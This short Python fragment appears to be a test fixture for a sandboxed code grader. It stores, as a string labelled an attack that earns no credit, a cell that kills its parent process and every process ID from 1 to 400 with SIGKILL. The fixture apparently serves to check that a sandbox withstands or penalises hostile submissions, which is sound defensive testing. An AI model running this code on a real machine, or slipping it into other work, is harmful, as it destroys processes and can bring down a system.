"""
attack: it kills its parent and everybody whose number it can guess
deserves: nothing
"""

CELL = """\
import os
import signal

for pid in [os.getppid(), *range(1, 400)]:
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
